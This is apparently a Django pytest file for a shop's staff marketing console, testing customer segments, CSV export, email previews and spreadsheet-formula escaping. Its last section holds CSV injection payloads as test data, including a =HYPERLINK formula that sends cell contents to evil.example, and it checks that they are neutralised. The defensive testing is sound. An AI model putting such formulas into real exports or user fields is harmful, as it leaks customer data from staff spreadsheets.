"""Segments in the staff console: who is in which, counts, CSV export, and previewing each email for a customer."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from channels.services.devices import device_client_create
from customers.models import Customer
from marketing.models import MarketingEmail
from marketing.segments import Segment, customers_in_segment
from tests.customers.factories import shopper
from tests.factories import (
    CustomerFactory,
    LocationFactory,
    OrderFactory,
    StockLevelFactory,
    UserFactory,
    VariantFactory,
    WishlistItemFactory,
)
from tests.orders import conftest as orders_conftest

pytestmark = pytest.mark.django_db

shop = orders_conftest.shop  # a stocked store OSL1, for a marketplace order


def order(customer, channel, *, days_ago=10, total="100.00", status="completed"):
    return OrderFactory(
        customer=customer,
        channel=channel,
        status=status,
        total=Decimal(total),
        placed_at=timezone.now() - timedelta(days=days_ago),
    )


@pytest.fixture
def people():
    both = CustomerFactory(email="both@example.com")
    order(both, "store")
    order(both, "web", total="5000.00")
    store = CustomerFactory(email="store@example.com")
    order(store, "store")
    order(store, "store", days_ago=400)
    web = CustomerFactory(email="web@example.com")
    order(web, "web")
    order(web, "store", status="cancelled")  # never a sale: does not make web an omnichannel customer
    quiet = CustomerFactory(email="quiet@example.com")
    order(quiet, "app", days_ago=300)
    CustomerFactory(email="never@example.com")
    return {"both": both, "store": store, "web": web, "quiet": quiet}


def emails(segment):
    return {c.email for c in customers_in_segment(segment=segment, now=timezone.now())}


def test_segments_hold_the_right_customers(people):
    assert emails(Segment.OMNICHANNEL) == {"both@example.com"}
    assert emails(Segment.STORE_ONLY) == {"store@example.com"}
    assert emails(Segment.WEB_ONLY) == {"web@example.com"}
    assert emails(Segment.LAPSED) == {"quiet@example.com"}
    assert emails(Segment.BEST) == {"both@example.com"}


@pytest.fixture
def staff_client(client):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


def test_segment_page_shows_counts_and_filters(staff_client, people):
    url = reverse("admin:marketing_customersegment_changelist")
    page = staff_client.get(url).content.decode()
    assert 'data-segment="omnichannel">1<' in page
    assert 'data-segment="lapsed">1<' in page
    filtered = staff_client.get(url, {"segment": "store_only"}).content.decode()
    assert "store@example.com" in filtered and "web@example.com" not in filtered


def test_segment_csv_export(staff_client, people):
    url = reverse("admin:marketing_customersegment_changelist") + "?segment=omnichannel"
    response = staff_client.post(
        url, {"action": "export_csv", "_selected_action": [people["both"].pk], "select_across": "1", "index": "0"}
    )
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode().strip().splitlines()
    assert lines[0].startswith("email,")
    assert len(lines) == 2 and lines[1].startswith("both@example.com,")


def test_segments_filter_by_home_store(staff_client):
    bergen = LocationFactory(name="Bergen")
    CustomerFactory(email="bergen@example.com", home_store=bergen)
    CustomerFactory(email="elsewhere@example.com")
    page = staff_client.get(
        reverse("admin:marketing_customersegment_changelist"), {"home_store__id__exact": bergen.pk}
    ).content.decode()
    assert "bergen@example.com" in page and "elsewhere@example.com" not in page


@pytest.mark.parametrize("kind", MarketingEmail.Kind.values)
def test_staff_preview_every_email_for_a_customer_and_nothing_is_sent(staff_client, kind, mailoutbox):
    store = LocationFactory()
    kari = CustomerFactory(marketing_consent=True, home_store=store)
    lamp = VariantFactory(product__name="Brass lamp")
    StockLevelFactory(location=store, variant=lamp, on_hand=2)
    WishlistItemFactory(customer=kari, variant=lamp)
    bought = VariantFactory()
    bought.product.related.add(lamp.product)
    o = OrderFactory(customer=kari, completed_at=timezone.now())
    o.lines.create(variant=bought, sku=bought.sku, name="x", unit_price=1, quantity=1, line_total=1)

    page = staff_client.get(reverse("admin:marketing_customersegment_preview", args=[kari.pk, kind]))
    assert page.status_code == 200
    body = page.content.decode()
    assert "Brass lamp" in body and "List-Unsubscribe" in body
    assert mailoutbox == [] and not MarketingEmail.objects.exists()


def test_staff_send_the_pick_now(staff_client, mailoutbox, django_capture_on_commit_callbacks):
    store = LocationFactory()
    kari = CustomerFactory(marketing_consent=True, home_store=store)
    lamp = VariantFactory()
    StockLevelFactory(location=store, variant=lamp, on_hand=2)
    WishlistItemFactory(customer=kari, variant=lamp)
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(reverse("admin:marketing_customersegment_preview", args=[kari.pk, "personal_pick"]))
    assert [m.to for m in mailoutbox] == [[kari.email]]


# ---- The export opens safely in a spreadsheet ----

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'


def export_rows(staff_client, customers) -> list[list[str]]:
    url = reverse("admin:marketing_customersegment_changelist")
    response = staff_client.post(url, {"action": "export_csv", "_selected_action": [c.pk for c in customers]})
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def test_a_name_a_shopper_gave_is_exported_as_text_not_a_formula(staff_client):
    user, customer = shopper("mallory@example.com")
    app = APIClient()
    app.force_authenticate(user)
    response = app.patch("/api/v1/me/", {"first_name": HYPERLINK, "last_name": "@SUM(A1)"}, format="json")
    assert response.status_code == 200, response.content

    [header, row] = export_rows(staff_client, [customer])

    exported = dict(zip(header, row, strict=True))
    assert exported["first_name"] == "'" + HYPERLINK
    assert exported["last_name"] == "'@SUM(A1)"


def test_names_and_phones_from_a_marketplace_order_are_exported_as_text(staff_client, shop):
    _, key = device_client_create(name="FINN", channel="marketplace", scopes=["channel:orders"])
    marketplace = APIClient()
    marketplace.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    body = {
        "external_id": "FINN-1",
        "customer": {"email": "eve@example.com", "phone": "+47 912 34 567", "name": "-2+3 \t=cmd"},
        "lines": [{"sku": shop["cap"].sku, "quantity": 1, "unit_price": "139.00"}],
        "fulfilment": "pickup",
        "location": "OSL1",
    }
    assert marketplace.post("/api/v1/channel-orders/", body, format="json").status_code == 201

    [header, *rows] = export_rows(staff_client, Customer.objects.all())

    assert len(rows) == 1
    for column, cell in zip(header, rows[0], strict=True):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    exported = dict(zip(header, rows[0], strict=True))
    assert (exported["first_name"], exported["last_name"]) == ("'-2+3", "'\t=cmd")
    assert exported["phone"] == "'+4791234567"
